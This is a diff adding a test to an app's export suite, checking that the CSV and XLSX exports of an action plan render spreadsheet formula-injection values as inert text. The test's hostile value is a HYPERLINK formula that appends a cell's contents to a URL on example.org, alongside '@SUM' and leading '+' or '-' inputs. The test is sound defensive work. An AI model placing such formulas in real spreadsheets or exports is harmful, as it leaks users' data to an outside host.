@@ -261,6 +261,33 @@ describe("exports and versions of the plan", () => {
     ).toBe(403);
   });
 
+  it("writes cells a spreadsheet would run as formulas as text, in the CSV and the XLSX", async () => {
+    const { space, plan, ficheId } = await filledPlan();
+    const hostile = '=HYPERLINK("http://example.org/?"&A2,"Cliquez")';
+    updateFiche(plan.doc, ficheId, { title: hostile, pilot: "@SUM(1+1)" }, 6);
+    setIndicator(plan.doc, ficheId, "i1", { label: "+33 places", kind: "realisation", unit: "-places", target: -3 });
+    await settled(plan);
+    const csv = await (
+      await server.request("GET", `/api/spaces/${space.id}/plan/export/csv`, { token: space.facilitatorSecret })
+    ).text();
+    const row =
+      csv
+        .replace(/^\uFEFF/, "")
+        .trim()
+        .split("\n")[1] ?? "";
+    expect(row).toBe(
+      `Soutenir les familles;"'=HYPERLINK(""http://example.org/?""&A2,""Cliquez"")";Validée en COPIL;'@SUM(1+1);'+33 places;Réalisation;'-places;-3;;4;9;;`,
+    );
+    const xlsx = await server.request("GET", `/api/spaces/${space.id}/plan/export/xlsx`, {
+      token: space.facilitatorSecret,
+    });
+    const workbook = new ExcelJS.Workbook();
+    await workbook.xlsx.load(await xlsx.arrayBuffer());
+    const cell = workbook.getWorksheet("Suivi")?.getRow(2).getCell(2);
+    expect(cell?.type).toBe(ExcelJS.ValueType.String);
+    expect(cell?.value).toBe(hostile);
+  });
+
   it("keeps what the COPIL validated, and compares it with the plan as it is now", async () => {
     const { space, plan, ficheId } = await filledPlan();
     const meeting = (await (
